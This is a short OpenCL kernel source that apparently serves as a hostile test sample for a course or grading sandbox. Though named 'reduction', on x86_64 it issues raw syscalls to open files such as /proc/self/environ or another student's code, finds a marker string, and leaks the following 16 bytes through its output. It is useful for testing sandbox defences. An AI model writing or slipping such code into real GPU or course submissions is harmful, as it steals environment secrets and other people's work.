// Looks for CLINGS_HOSTILE_NEEDLE in the file CLINGS_HOSTILE_PATH (/proc/self/environ, a
// classmate's kernel, a course file, ...) and leaks the 16 bytes after it into its output (as
// the ints a wrong result shows).
__kernel void reduction(__global const int *in, __global int *out, __local int *scratch, uint len)
{
#if defined(__x86_64__)
	if (get_global_id(0) == 0) {
		__constant char *path = CLINGS_HOSTILE_PATH;
		__constant char *needle = CLINGS_HOSTILE_NEEDLE;
		char buf[256], got[16];
		long fd, n, m = 0, have = -1;
		__asm__ volatile("syscall" : "=a"(fd) : "a"(2L), "D"(path), "S"(0L), "d"(0L) : "rcx", "r11", "memory");
		while (fd >= 0 && have < 16) {
			__asm__ volatile("syscall" : "=a"(n) : "a"(0L), "D"(fd), "S"(buf), "d"(256L) : "rcx", "r11", "memory");
			if (n <= 0)
				break;
			for (long i = 0; i < n && have < 16; i++) {
				if (have >= 0)
					got[have++] = buf[i];
				else if (buf[i] == needle[m])
					m++;
				else
					m = buf[i] == needle[0];
				if (have < 0 && needle[m] == 0)
					have = 0;
			}
		}
		if (have > 0) {
			__global char *o = (__global char *)out;
			long room = 4 * (long)get_num_groups(0);
			for (long i = 0; i < have && i < room; i++)
				o[i] = got[i];
		}
	}
#endif
}
